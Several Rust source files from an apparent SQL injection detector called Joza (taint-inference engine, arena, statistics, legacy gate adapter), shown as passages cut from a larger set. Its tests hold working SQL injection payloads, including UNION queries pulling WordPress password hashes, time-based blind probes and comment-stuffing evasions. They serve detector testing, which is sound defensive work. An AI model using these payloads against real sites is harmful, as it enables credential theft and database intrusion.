            fingerprint_of(&raw_strs)
        );
        prop_assert_eq!(fingerprint(&input), fingerprint_of(&raw_strs));
        let _ = skeleton_tokens(&input); // string collapse stays total too
    }

    /// Skeletons of parseable SELECTs are themselves lexable and non-empty.
    #[test]
    fn skeleton_roundtrip(
        id in 0i64..1000,
        // Filter out generated names that collide with SQL keywords (`on`,
        // `case`, …) — those are legitimately rejected as column names.
        col in "[a-z]{1,8}".prop_filter("keyword collision", |c| {
            lex(c).first().is_some_and(|t| t.kind == TokenKind::Identifier)
        }),
    ) {
        let q = format!("SELECT {col} FROM t WHERE id = {id} LIMIT 3");
        prop_assert!(parse(&q).is_ok());
        let sk = skeleton(&q);
        prop_assert!(!sk.is_empty());
        prop_assert!(!lex(&sk).is_empty());
    }
}

/// Round-trip corpus: realistic WordPress-style queries must parse.
#[test]
fn wordpress_query_corpus_parses() {
    let corpus = [
        "SELECT option_value FROM wp_options WHERE option_name = 'siteurl' LIMIT 1",
        "SELECT * FROM wp_posts WHERE ID = 123 AND post_status = 'publish'",
        "SELECT ID, post_title FROM wp_posts WHERE post_type = 'post' ORDER BY post_date DESC LIMIT 0, 10",
        "SELECT COUNT(*) FROM wp_comments WHERE comment_approved = '1'",
        "INSERT INTO wp_comments (comment_post_ID, comment_author, comment_content) VALUES (1, 'alice', 'hi')",
        "UPDATE wp_options SET option_value = '42' WHERE option_name = 'blog_count'",
        "DELETE FROM wp_postmeta WHERE meta_key = '_edit_lock' LIMIT 1",
        "SELECT p.ID, m.meta_value FROM wp_posts p LEFT JOIN wp_postmeta m ON p.ID = m.post_id WHERE p.post_status = 'publish'",
        "SELECT user_login FROM wp_users WHERE user_email LIKE '%@example.com'",
        "SELECT post_author, COUNT(*) cnt FROM wp_posts GROUP BY post_author HAVING cnt > 2 ORDER BY cnt DESC",
        "SELECT DISTINCT post_type FROM wp_posts",
        "SELECT * FROM wp_terms WHERE term_id IN (1,2,3)",
        "SELECT * FROM wp_posts WHERE post_date BETWEEN '2014-01-01' AND '2014-12-31'",
        "SELECT CASE WHEN comment_karma > 0 THEN 'good' ELSE 'bad' END FROM wp_comments",
        "SELECT (SELECT COUNT(*) FROM wp_comments) AS total",
    ];
    for q in corpus {
        assert!(parse(q).is_ok(), "failed to parse: {q}");
    }
}

/// Exploit corpus: realistic injection payloads embedded in queries parse
/// (they are valid SQL — that is the point of an injection).
#[test]
fn exploit_query_corpus_parses() {
    let corpus = [
        "SELECT * FROM wp_posts WHERE ID=-1 UNION SELECT 1,2,user_pass FROM wp_users",
        "SELECT * FROM items WHERE id=5 OR 1=1",
        "SELECT * FROM items WHERE id=5 AND 1=2 UNION ALL SELECT NULL,NULL,version()",
        "SELECT * FROM t WHERE id=1 AND SLEEP(5)",
        "SELECT * FROM t WHERE id=1 AND IF(ASCII(SUBSTRING(user(),1,1))>77, SLEEP(1), 0)",
        "SELECT * FROM t WHERE name='' OR 'a'='a'",
        "SELECT * FROM t WHERE id=1 AND (SELECT COUNT(*) FROM wp_users) > 0",
        "SELECT * FROM t WHERE id=0x31 UNION SELECT CONCAT(user_login, 0x3a, user_pass) FROM wp_users-- -",
    ];
    for q in corpus {
        assert!(parse(q).is_ok(), "failed to parse: {q}");
    }
}
