//! The per-check arena: one [`BufSlot`] per hot-path intermediate.
//!
//! [`CheckArena`] names every recyclable buffer a single query check can
//! need — token stream, symbol skeleton, collapse scratch, folded bytes,
//! critical-token lists, NTI input-folding scratch. The engine keeps one
//! arena per OS worker thread ([`with_arena`]): checks on a thread are
//! strictly sequential (the slots are `!Sync` by construction), so each
//! check sees the previous check's capacity and, at steady state, the
//! model fast path performs **zero** heap allocations — asserted by the
//! `alloc_free` integration test with a counting allocator.
//!
//! Ownership is per-thread rather than per-session deliberately: every
//! entry point (sessions, direct `check_query*` calls, batches) funnels
//! through `Joza::check_in` on some thread, so a thread-local covers all
//! of them, and a `GateSession` is itself single-threaded (`!Sync`), so
//! per-session buffers would recycle no better — they would only
//! multiply the retained capacity by the number of live sessions.

use joza_arena::{BufSlot, Lease};
use joza_sqlparse::symbol::SymId;
use joza_sqlparse::token::Token;

/// Named buffer slots for one worker thread's checks.
#[derive(Debug, Default)]
pub struct CheckArena {
    /// Lexed token stream of the checked query.
    pub tokens: BufSlot<Token>,
    /// Raw symbol skeleton rendered from the token stream.
    pub skeleton: BufSlot<SymId>,
    /// Collapse scratch for fingerprinting (held only inside the
    /// fingerprint computation, never across stages).
    pub collapse: BufSlot<SymId>,
    /// Case-folded query bytes for NTI matching.
    pub folded: BufSlot<u8>,
    /// Critical tokens of the checked query.
    pub criticals: BufSlot<Token>,
    /// NTI per-input case-folding scratch.
    pub input_fold: BufSlot<u8>,
}

impl CheckArena {
    /// An arena with all slots empty (each warms up on first use).
    pub const fn new() -> Self {
        CheckArena {
            tokens: BufSlot::new(),
            skeleton: BufSlot::new(),
            collapse: BufSlot::new(),
            folded: BufSlot::new(),
            criticals: BufSlot::new(),
            input_fold: BufSlot::new(),
        }
    }

    /// Leases the NTI input-folding scratch buffer.
    pub fn lease_input_fold(&self) -> Lease<'_, u8> {
        self.input_fold.lease()
    }
}

thread_local! {
    static ARENA: CheckArena = const { CheckArena::new() };
}

/// Runs `f` with the calling thread's check arena.
///
/// The borrow is scoped to the closure, which is exactly a check's
/// lifetime — `Joza::check_in` wraps its body in this.
pub fn with_arena<R>(f: impl FnOnce(&CheckArena) -> R) -> R {
    ARENA.with(f)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn thread_arena_recycles_across_calls() {
        let cap = with_arena(|a| {
            let mut t = a.tokens.lease();
            t.reserve(128);
            t.capacity()
        });
        let cap2 = with_arena(|a| a.tokens.lease().capacity());
        assert!(cap2 >= cap.min(128));
    }
}
