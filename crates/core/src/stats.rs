//! Contention-free engine statistics (DESIGN.md §11).
//!
//! Before the serving-API redesign every check finalized its counters
//! under one shard-lock acquisition — correct, but a serialization point
//! once worker threads outnumber idle shards, and a second contended
//! cacheline on top of the PTI shard mutex. This module replaces that
//! with **per-worker atomic stat cells**:
//!
//! * each check (or batch of checks) accumulates a plain, unsynchronized
//!   [`JozaStats`] delta on its own stack;
//! * the delta is flushed once into the calling worker's [`StatsCell`] —
//!   a cache-line-aligned block of relaxed `AtomicU64`s that only threads
//!   mapped to that cell ever write;
//! * [`StatsCell::snapshot`] (driven by `Joza::stats`) merges every cell
//!   on the *read* side, which is where the cost belongs: stats are read
//!   a handful of times per run, not once per query.
//!
//! The path-partition invariant (`model_fast_hits + static_hits +
//! full_checks == queries`) is preserved exactly at every quiescent
//! point: each check contributes `queries += 1` and exactly one path
//! counter to the same delta, and deltas are merged counter-by-counter.
//! A snapshot taken *while a flush is in flight* may transiently observe
//! a delta half-applied (the counters are independent atomics, not one
//! sealed record); once the writers are done — a join, a barrier, the
//! end of a batch — every snapshot is exact.
//!
//! [`JozaStats`]: crate::JozaStats

use crate::{JozaStats, STAGE_COUNT};
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

/// One worker's statistics slot: every [`JozaStats`] counter as a relaxed
/// atomic, aligned to its own cache lines so neighbouring workers never
/// false-share.
#[repr(align(128))]
#[derive(Debug, Default)]
pub(crate) struct StatsCell {
    queries: AtomicU64,
    attacks: AtomicU64,
    nti_detections: AtomicU64,
    pti_detections: AtomicU64,
    nti_time_ns: AtomicU64,
    pti_time_ns: AtomicU64,
    model_fast_hits: AtomicU64,
    static_hits: AtomicU64,
    full_checks: AtomicU64,
    model_anomalies: AtomicU64,
    route_misses_unknown: AtomicU64,
    route_misses_incomplete: AtomicU64,
    stage_runs: [AtomicU64; STAGE_COUNT],
    stage_hits: [AtomicU64; STAGE_COUNT],
    stage_ns: [AtomicU64; STAGE_COUNT],
}

/// Adds `$delta.$field` into `$cell.$field`, skipping the atomic RMW
/// entirely when the delta is zero (most counters are, per check).
macro_rules! flush_counter {
    ($cell:expr, $delta:expr, $($field:ident),+ $(,)?) => {$(
        if $delta.$field != 0 {
            $cell.$field.fetch_add($delta.$field, Ordering::Relaxed);
        }
    )+};
}

impl StatsCell {
    /// Folds a locally-accumulated delta into the cell. Relaxed ordering
    /// throughout: counters are monotone and independently meaningful,
    /// and exactness is only promised at quiescence (see module docs).
    pub(crate) fn add(&self, delta: &JozaStats) {
        flush_counter!(
            self,
            delta,
            queries,
            attacks,
            nti_detections,
            pti_detections,
            model_fast_hits,
            static_hits,
            full_checks,
            model_anomalies,
            route_misses_unknown,
            route_misses_incomplete,
        );
        let nti_ns = delta.nti_time.as_nanos() as u64;
        if nti_ns != 0 {
            self.nti_time_ns.fetch_add(nti_ns, Ordering::Relaxed);
        }
        let pti_ns = delta.pti_time.as_nanos() as u64;
        if pti_ns != 0 {
            self.pti_time_ns.fetch_add(pti_ns, Ordering::Relaxed);
        }
        for i in 0..STAGE_COUNT {
            if delta.stage_runs[i] != 0 {
                self.stage_runs[i].fetch_add(delta.stage_runs[i], Ordering::Relaxed);
            }
            if delta.stage_hits[i] != 0 {
                self.stage_hits[i].fetch_add(delta.stage_hits[i], Ordering::Relaxed);
            }
            if delta.stage_ns[i] != 0 {
                self.stage_ns[i].fetch_add(delta.stage_ns[i], Ordering::Relaxed);
            }
        }
    }

    /// Reads the cell into a plain [`JozaStats`].
    pub(crate) fn snapshot(&self) -> JozaStats {
        let mut out = JozaStats {
            queries: self.queries.load(Ordering::Relaxed),
            attacks: self.attacks.load(Ordering::Relaxed),
            nti_detections: self.nti_detections.load(Ordering::Relaxed),
            pti_detections: self.pti_detections.load(Ordering::Relaxed),
            nti_time: Duration::from_nanos(self.nti_time_ns.load(Ordering::Relaxed)),
            pti_time: Duration::from_nanos(self.pti_time_ns.load(Ordering::Relaxed)),
            model_fast_hits: self.model_fast_hits.load(Ordering::Relaxed),
            static_hits: self.static_hits.load(Ordering::Relaxed),
            full_checks: self.full_checks.load(Ordering::Relaxed),
            model_anomalies: self.model_anomalies.load(Ordering::Relaxed),
            route_misses_unknown: self.route_misses_unknown.load(Ordering::Relaxed),
            route_misses_incomplete: self.route_misses_incomplete.load(Ordering::Relaxed),
            ..JozaStats::default()
        };
        for i in 0..STAGE_COUNT {
            out.stage_runs[i] = self.stage_runs[i].load(Ordering::Relaxed);
            out.stage_hits[i] = self.stage_hits[i].load(Ordering::Relaxed);
            out.stage_ns[i] = self.stage_ns[i].load(Ordering::Relaxed);
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::StageId;

    #[test]
    fn add_then_snapshot_round_trips() {
        let cell = StatsCell::default();
        let mut delta = JozaStats { queries: 3, attacks: 1, ..JozaStats::default() };
        delta.full_checks = 2;
        delta.model_fast_hits = 1;
        delta.nti_time = Duration::from_nanos(250);
        delta.stage_runs[StageId::Nti.index()] = 2;
        delta.stage_ns[StageId::Pti.index()] = 99;
        cell.add(&delta);
        cell.add(&delta);
        let snap = cell.snapshot();
        assert_eq!(snap.queries, 6);
        assert_eq!(snap.attacks, 2);
        assert_eq!(snap.model_fast_hits + snap.static_hits + snap.full_checks, snap.queries);
        assert_eq!(snap.nti_time, Duration::from_nanos(500));
        assert_eq!(snap.stage_runs[StageId::Nti.index()], 4);
        assert_eq!(snap.stage_ns[StageId::Pti.index()], 198);
    }

    #[test]
    fn concurrent_adds_sum_exactly() {
        let cell = StatsCell::default();
        std::thread::scope(|s| {
            for _ in 0..8 {
                s.spawn(|| {
                    for _ in 0..500 {
                        let delta =
                            JozaStats { queries: 1, full_checks: 1, ..JozaStats::default() };
                        cell.add(&delta);
                    }
                });
            }
        });
        let snap = cell.snapshot();
        assert_eq!(snap.queries, 4000);
        assert_eq!(snap.full_checks, 4000);
    }
}
