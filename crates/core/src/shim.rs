//! Legacy [`QueryGate`] adapter, kept as a deprecated shim.
//!
//! Single-worker callers used to drive the engine through
//! [`JozaGate`]'s `begin_route` / `begin_request` / `check` handshake.
//! The unified [`crate::JozaSession`] (plus the
//! [`joza_webapp::gate::GateFactory`] impl on [`Joza`]) replaces it; the
//! shim remains so old integrations keep compiling and so the
//! `pipeline_equivalence` differential test can replay traffic through
//! both API generations. It contains no detection logic of its own — every
//! check funnels into the same `CheckPipeline` — and CI rejects any new
//! use of it outside this module and that test.

#![allow(deprecated)]

use crate::{Joza, RouteModel, Verdict};
use joza_webapp::gate::{GateDecision, QueryGate, RawInput};

impl Joza {
    /// Wraps the engine as a legacy [`QueryGate`] for single-worker
    /// callers.
    #[deprecated(
        since = "0.5.0",
        note = "use Joza::session/session_for or the GateFactory impl; \
                the legacy QueryGate adapter is kept only for equivalence testing"
    )]
    pub fn gate(&self) -> JozaGate<'_> {
        JozaGate {
            joza: self,
            dep: self.deployment(),
            route: None,
            inputs: Vec::new(),
            model: None,
        }
    }
}

/// Legacy [`QueryGate`] adapter: plugs Joza into `joza_webapp::Server`
/// for single-worker callers via `Server::handle_gated`.
#[deprecated(
    since = "0.5.0",
    note = "use Joza::session/session_for or the GateFactory impl; \
            the legacy QueryGate adapter is kept only for equivalence testing"
)]
pub struct JozaGate<'a> {
    joza: &'a Joza,
    dep: std::sync::Arc<crate::Deployment>,
    route: Option<String>,
    inputs: Vec<String>,
    model: Option<std::sync::Arc<RouteModel>>,
}

impl std::fmt::Debug for JozaGate<'_> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("JozaGate").field("inputs", &self.inputs.len()).finish()
    }
}

impl JozaGate<'_> {
    /// Checks one query and returns the full [`Verdict`] (the trait's
    /// `check` collapses it to a [`GateDecision`]). Exists so the
    /// differential test can compare verdict provenance, not just
    /// decisions, across API generations.
    pub fn check_verdict(&mut self, sql: &str) -> Verdict {
        let refs: Vec<&str> = self.inputs.iter().map(String::as_str).collect();
        self.joza.check_on(&self.dep, self.route.as_deref(), self.model.as_deref(), &refs, sql)
    }
}

impl QueryGate for JozaGate<'_> {
    fn begin_route(&mut self, route: &str) {
        self.route = Some(route.to_string());
        // Resolved against the gate's pinned deployment, like every other
        // lookup this adapter performs.
        self.model = self.dep.model_for(route);
    }

    fn begin_request(&mut self, inputs: &[RawInput]) {
        self.inputs = inputs.iter().map(|i| i.value.clone()).collect();
        self.joza.begin_request_inner();
    }

    fn check(&mut self, sql: &str) -> GateDecision {
        let verdict = self.check_verdict(sql);
        self.joza.decide(&verdict)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{CheckPath, JozaConfig, RecoveryPolicy};
    use joza_sqlparse::template::{QueryModelIndex, QueryTemplate, TemplatePart};

    const FRAGS: &[&str] = &["id", "SELECT * FROM records WHERE ID=", " LIMIT 5"];

    fn joza() -> Joza {
        Joza::builder().fragments(FRAGS).config(JozaConfig::optimized()).build()
    }

    #[test]
    fn gate_enforces_recovery_policy() {
        let j = joza();
        let mut gate = j.gate();
        gate.begin_request(&[]);
        assert_eq!(gate.check("SELECT * FROM records WHERE ID=1 LIMIT 5"), GateDecision::Allow);
        assert_eq!(
            gate.check("SELECT * FROM records WHERE ID=-1 UNION SELECT 1 LIMIT 5"),
            GateDecision::Terminate
        );

        let j2 = Joza::builder()
            .fragments(FRAGS)
            .config(JozaConfig {
                recovery: RecoveryPolicy::ErrorVirtualization,
                ..JozaConfig::optimized()
            })
            .build();
        let mut gate = j2.gate();
        gate.begin_request(&[]);
        assert_eq!(
            gate.check("SELECT * FROM records WHERE ID=-1 UNION SELECT 1 LIMIT 5"),
            GateDecision::ErrorVirtualize
        );
    }

    #[test]
    fn legacy_gate_uses_route_models_and_matches_session_verdicts() {
        let t = QueryTemplate {
            parts: vec![
                TemplatePart::Lit("SELECT * FROM records WHERE ID=".to_string()),
                TemplatePart::Hole,
                TemplatePart::Lit(" LIMIT 5".to_string()),
            ],
        };
        let mut ix = QueryModelIndex::new();
        ix.insert("records", crate::RouteModel::build(&[Some(vec![t])]));
        let j = Joza::builder()
            .fragments(FRAGS)
            .config(JozaConfig::optimized())
            .query_models(ix)
            .build();

        let mut gate = j.gate();
        gate.begin_route("records");
        gate.begin_request(&[]);
        let v = gate.check_verdict("SELECT * FROM records WHERE ID=8 LIMIT 5");
        assert_eq!(v.path(), CheckPath::ModelFastPath);
        assert_eq!(j.stats().model_fast_hits, 1);

        // Same check through the unified session: identical verdict.
        let s = j.session_for("records");
        assert_eq!(s.check("SELECT * FROM records WHERE ID=8 LIMIT 5"), v);

        // Attacks never ride the fast path through the legacy adapter.
        assert_eq!(
            gate.check("SELECT * FROM records WHERE ID=-1 UNION SELECT 1 LIMIT 5"),
            GateDecision::Terminate
        );
        assert_eq!(j.stats().model_fast_hits, 2);
    }
}
