#![warn(missing_docs)]
//! Joza: the hybrid taint-inference engine (§III-C, §IV).
//!
//! Joza combines [negative taint inference](joza_nti) and [positive taint
//! inference](joza_pti): "a query is safe if and only if both PTI and NTI
//! components deem the query safe. … If either algorithm detects an
//! attack, an attack is reported." (§III-C, §IV-E). The combination is the
//! paper's contribution — each component covers the other's blind spot:
//!
//! * attacks that evade NTI (quote-stuffed comment blocks, whitespace
//!   padding, base64 inputs) are long or vocabulary-foreign and get caught
//!   by PTI;
//! * attacks that evade PTI (short payloads assembled from fragments the
//!   application happens to contain) appear near-verbatim in the query and
//!   get caught by NTI.
//!
//! The crate exposes three API layers:
//!
//! * [`Joza`] + [`JozaSession`] — direct library use: capture inputs,
//!   check queries;
//! * [`JozaGate`] — a [`joza_webapp::gate::QueryGate`] implementation that
//!   plugs Joza into the simulated web server as the paper's wrapper-based
//!   interception does (§IV-A);
//! * [`Joza::install`] — the installer: extract string fragments from
//!   every source file of a [`WebApp`].
//!
//! # Examples
//!
//! ```
//! use joza_core::{Joza, JozaConfig};
//!
//! let fragments = ["id", "SELECT * FROM records WHERE ID=", " LIMIT 5"];
//! let joza = Joza::builder().fragments(fragments).config(JozaConfig::default()).build();
//!
//! let mut session = joza.session();
//! session.capture_input("id", "42");
//! assert!(session.check("SELECT * FROM records WHERE ID=42 LIMIT 5").is_safe());
//!
//! session.capture_input("id", "-1 UNION SELECT username()");
//! let verdict = session.check("SELECT * FROM records WHERE ID=-1 UNION SELECT username() LIMIT 5");
//! assert!(!verdict.is_safe());
//! ```

use joza_nti::{NtiAnalyzer, NtiConfig};
use joza_phpsim::fragments::FragmentSet;
use joza_pti::daemon::{PtiComponent, PtiComponentConfig};
use joza_webapp::app::WebApp;
use joza_webapp::gate::{GateDecision, QueryGate, RawInput};
use parking_lot::Mutex;
use std::time::{Duration, Instant};

/// What Joza does when an attack is detected (§IV-E).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum RecoveryPolicy {
    /// Force the application to exit; the user sees a blank page. The
    /// conservative default.
    #[default]
    Termination,
    /// Return an error code as if the query had failed and let application
    /// logic handle it.
    ErrorVirtualization,
}

/// Joza configuration.
#[derive(Debug, Clone, Default)]
pub struct JozaConfig {
    /// NTI analyzer configuration.
    pub nti: NtiConfig,
    /// PTI component configuration (deployment mode + caches).
    pub pti: PtiComponentConfig,
    /// Recovery policy on detection.
    pub recovery: RecoveryPolicy,
    /// Disable NTI (PTI-only ablation).
    pub disable_nti: bool,
    /// Disable PTI (NTI-only ablation).
    pub disable_pti: bool,
    /// Modeled per-query cost of the PHP-side Joza wrapper itself
    /// (interception, input bookkeeping, cache key hashing) — work the
    /// paper's prototype performs in interpreted PHP on every intercepted
    /// query regardless of deployment mode. Zero (free) by default; the
    /// benchmark harness sets a calibrated value (see `DESIGN.md`).
    pub wrapper_cost: Duration,
}

impl JozaConfig {
    /// The paper's deployed configuration: optimized PTI (long-lived
    /// daemon, both caches), default NTI, termination recovery.
    pub fn optimized() -> Self {
        JozaConfig { pti: PtiComponentConfig::optimized(), ..Default::default() }
    }

    /// NTI-only configuration (for the Table II / Table IV columns).
    pub fn nti_only() -> Self {
        JozaConfig { disable_pti: true, ..Self::optimized() }
    }

    /// PTI-only configuration (for the Table II / Table IV columns).
    pub fn pti_only() -> Self {
        JozaConfig { disable_nti: true, ..Self::optimized() }
    }
}

/// Which component(s) detected an attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Detector {
    /// Only NTI flagged the query.
    Nti,
    /// Only PTI flagged the query.
    Pti,
    /// Both flagged it.
    Both,
}

/// The verdict for one query.
#[derive(Debug, Clone, PartialEq)]
pub struct Verdict {
    /// `true` iff both enabled components deemed the query safe.
    safe: bool,
    /// Who detected the attack (None when safe).
    pub detected_by: Option<Detector>,
    /// NTI's raw verdict (`None` when NTI disabled).
    pub nti_attack: Option<bool>,
    /// PTI's raw verdict (`None` when PTI disabled).
    pub pti_attack: Option<bool>,
}

impl Verdict {
    /// Whether the query may proceed to the DBMS.
    pub fn is_safe(&self) -> bool {
        self.safe
    }
}

/// Cumulative engine statistics.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct JozaStats {
    /// Queries checked.
    pub queries: u64,
    /// Attacks reported.
    pub attacks: u64,
    /// Queries NTI flagged.
    pub nti_detections: u64,
    /// Queries PTI flagged.
    pub pti_detections: u64,
    /// Wall-clock time spent in NTI.
    pub nti_time: Duration,
    /// Wall-clock time spent in PTI (including daemon round-trips).
    pub pti_time: Duration,
}

struct Inner {
    pti: PtiComponent,
    stats: JozaStats,
}

/// The Joza engine. Shareable by reference; interior state (PTI caches,
/// statistics) is mutex-protected.
pub struct Joza {
    config: JozaConfig,
    nti: NtiAnalyzer,
    inner: Mutex<Inner>,
    fragment_count: usize,
}

impl std::fmt::Debug for Joza {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Joza")
            .field("fragments", &self.fragment_count)
            .field("config", &self.config)
            .finish_non_exhaustive()
    }
}

impl Joza {
    /// Starts building an engine.
    pub fn builder() -> JozaBuilder {
        JozaBuilder::default()
    }

    /// The installer (§IV-A): extracts string fragments from every source
    /// file reachable in the application and builds an engine over them.
    pub fn install(app: &WebApp, config: JozaConfig) -> Joza {
        let mut set = FragmentSet::new();
        for src in app.all_sources() {
            set.add_source(src);
        }
        Joza::builder().fragment_set(&set).config(config).build()
    }

    /// The engine configuration.
    pub fn config(&self) -> &JozaConfig {
        &self.config
    }

    /// Number of fragments in the PTI vocabulary.
    pub fn fragment_count(&self) -> usize {
        self.fragment_count
    }

    /// A snapshot of cumulative statistics.
    pub fn stats(&self) -> JozaStats {
        self.inner.lock().stats
    }

    /// Starts an analysis session (captures inputs for NTI, then checks
    /// queries).
    pub fn session(&self) -> JozaSession<'_> {
        JozaSession { joza: self, inputs: Vec::new() }
    }

    /// Wraps the engine as a [`QueryGate`] for the simulated web server.
    pub fn gate(&self) -> JozaGate<'_> {
        JozaGate { joza: self, inputs: Vec::new() }
    }

    /// Checks one query against a set of captured raw inputs.
    pub fn check_query(&self, inputs: &[&str], query: &str) -> Verdict {
        joza_phpsim::cost::simulate(self.config.wrapper_cost);
        let mut inner = self.inner.lock();
        let inner = &mut *inner;

        let pti_attack = if self.config.disable_pti {
            None
        } else {
            let t0 = Instant::now();
            let decision = inner.pti.check(query);
            inner.stats.pti_time += t0.elapsed();
            Some(!decision.safe)
        };
        let nti_attack = if self.config.disable_nti {
            None
        } else {
            let t0 = Instant::now();
            let report = self.nti.analyze(inputs, query);
            inner.stats.nti_time += t0.elapsed();
            Some(report.is_attack())
        };

        let detected_by = match (nti_attack, pti_attack) {
            (Some(true), Some(true)) => Some(Detector::Both),
            (Some(true), _) => Some(Detector::Nti),
            (_, Some(true)) => Some(Detector::Pti),
            _ => None,
        };
        inner.stats.queries += 1;
        if nti_attack == Some(true) {
            inner.stats.nti_detections += 1;
        }
        if pti_attack == Some(true) {
            inner.stats.pti_detections += 1;
        }
        if detected_by.is_some() {
            inner.stats.attacks += 1;
        }
        Verdict { safe: detected_by.is_none(), detected_by, nti_attack, pti_attack }
    }

    fn begin_request_inner(&self) {
        self.inner.lock().pti.begin_request();
    }
}

/// Builder for [`Joza`].
#[derive(Debug, Default)]
pub struct JozaBuilder {
    fragments: Vec<String>,
    config: JozaConfig,
}

impl JozaBuilder {
    /// Adds fragments from an iterator of strings.
    #[must_use]
    pub fn fragments<I, S>(mut self, fragments: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.fragments.extend(fragments.into_iter().map(|s| s.as_ref().to_string()));
        self
    }

    /// Adds fragments from an extracted [`FragmentSet`].
    #[must_use]
    pub fn fragment_set(mut self, set: &FragmentSet) -> Self {
        self.fragments.extend(set.iter().map(str::to_string));
        self
    }

    /// Sets the configuration.
    #[must_use]
    pub fn config(mut self, config: JozaConfig) -> Self {
        self.config = config;
        self
    }

    /// Builds the engine (spawns the PTI daemon in long-lived mode).
    pub fn build(self) -> Joza {
        let nti = NtiAnalyzer::new(self.config.nti.clone());
        let fragment_count = self.fragments.len();
        let pti = PtiComponent::new(&self.fragments, self.config.pti.clone());
        Joza {
            config: self.config,
            nti,
            inner: Mutex::new(Inner { pti, stats: JozaStats::default() }),
            fragment_count,
        }
    }
}

/// A library-level analysis session: collected inputs + query checks.
#[derive(Debug)]
pub struct JozaSession<'a> {
    joza: &'a Joza,
    inputs: Vec<(String, String)>,
}

impl JozaSession<'_> {
    /// Captures one raw input (the preprocessing step, §IV-B).
    pub fn capture_input(&mut self, name: &str, value: &str) {
        self.inputs.push((name.to_string(), value.to_string()));
    }

    /// Clears captured inputs (start of a new request).
    pub fn reset(&mut self) {
        self.inputs.clear();
    }

    /// Checks a query against the captured inputs.
    pub fn check(&self, query: &str) -> Verdict {
        let refs: Vec<&str> = self.inputs.iter().map(|(_, v)| v.as_str()).collect();
        self.joza.check_query(&refs, query)
    }
}

/// [`QueryGate`] adapter: plugs Joza into `joza_webapp::Server`.
pub struct JozaGate<'a> {
    joza: &'a Joza,
    inputs: Vec<String>,
}

impl std::fmt::Debug for JozaGate<'_> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("JozaGate").field("inputs", &self.inputs.len()).finish()
    }
}

impl QueryGate for JozaGate<'_> {
    fn begin_request(&mut self, inputs: &[RawInput]) {
        self.inputs = inputs.iter().map(|i| i.value.clone()).collect();
        self.joza.begin_request_inner();
    }

    fn check(&mut self, sql: &str) -> GateDecision {
        let refs: Vec<&str> = self.inputs.iter().map(String::as_str).collect();
        let verdict = self.joza.check_query(&refs, sql);
        if verdict.is_safe() {
            GateDecision::Allow
        } else {
            match self.joza.config.recovery {
                RecoveryPolicy::Termination => GateDecision::Terminate,
                RecoveryPolicy::ErrorVirtualization => GateDecision::ErrorVirtualize,
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const FRAGS: &[&str] = &["id", "SELECT * FROM records WHERE ID=", " LIMIT 5"];

    fn joza() -> Joza {
        Joza::builder().fragments(FRAGS).config(JozaConfig::optimized()).build()
    }

    #[test]
    fn benign_query_safe() {
        let j = joza();
        let v = j.check_query(&["42"], "SELECT * FROM records WHERE ID=42 LIMIT 5");
        assert!(v.is_safe());
        assert_eq!(v.detected_by, None);
        assert_eq!(j.stats().queries, 1);
        assert_eq!(j.stats().attacks, 0);
    }

    #[test]
    fn obvious_attack_caught_by_both() {
        let j = joza();
        let payload = "-1 UNION SELECT username()";
        let q = format!("SELECT * FROM records WHERE ID={payload} LIMIT 5");
        let v = j.check_query(&[payload], &q);
        assert!(!v.is_safe());
        assert_eq!(v.detected_by, Some(Detector::Both));
    }

    #[test]
    fn nti_evasion_caught_by_pti() {
        // Quote-stuffed comment block: NTI's difference ratio blows past
        // the threshold, but the comment is not a program fragment.
        let payload_input = "-1 OR/*''''''''''*/1=1";
        let payload_in_query = payload_input.replace('\'', "\\'");
        let q = format!("SELECT * FROM records WHERE ID={payload_in_query} LIMIT 5");
        let v = joza().check_query(&[payload_input], &q);
        assert_eq!(v.nti_attack, Some(false), "NTI must be evaded: {v:?}");
        assert_eq!(v.pti_attack, Some(true), "PTI must catch it");
        assert!(!v.is_safe());
        assert_eq!(v.detected_by, Some(Detector::Pti));
    }

    #[test]
    fn pti_evasion_caught_by_nti() {
        // The application's vocabulary happens to contain OR and = — PTI
        // misses the tautology, NTI sees it verbatim in the query.
        let j = Joza::builder()
            .fragments(["id", "SELECT * FROM records WHERE ID=", " LIMIT 5", "OR", "=", "1"])
            .config(JozaConfig::optimized())
            .build();
        let payload = "1 OR 1 = 1";
        let q = format!("SELECT * FROM records WHERE ID={payload} LIMIT 5");
        let v = j.check_query(&[payload], &q);
        assert_eq!(v.pti_attack, Some(false), "PTI must be evaded: {v:?}");
        assert_eq!(v.nti_attack, Some(true), "NTI must catch it");
        assert!(!v.is_safe());
        assert_eq!(v.detected_by, Some(Detector::Nti));
    }

    #[test]
    fn ablation_configs() {
        let nti_only = Joza::builder().fragments(FRAGS).config(JozaConfig::nti_only()).build();
        let v = nti_only.check_query(&["42"], "SELECT * FROM records WHERE ID=42 LIMIT 5");
        assert!(v.pti_attack.is_none());
        assert!(v.nti_attack.is_some());

        let pti_only = Joza::builder().fragments(FRAGS).config(JozaConfig::pti_only()).build();
        let v = pti_only.check_query(&["42"], "SELECT * FROM records WHERE ID=42 LIMIT 5");
        assert!(v.nti_attack.is_none());
        assert!(v.pti_attack.is_some());
    }

    #[test]
    fn session_capture_flow() {
        let j = joza();
        let mut s = j.session();
        s.capture_input("id", "-1 UNION SELECT username()");
        let v = s.check("SELECT * FROM records WHERE ID=-1 UNION SELECT username() LIMIT 5");
        assert!(!v.is_safe());
        s.reset();
        s.capture_input("id", "5");
        assert!(s.check("SELECT * FROM records WHERE ID=5 LIMIT 5").is_safe());
    }

    #[test]
    fn stats_accumulate() {
        let j = joza();
        j.check_query(&["5"], "SELECT * FROM records WHERE ID=5 LIMIT 5");
        let p = "-1 UNION SELECT username()";
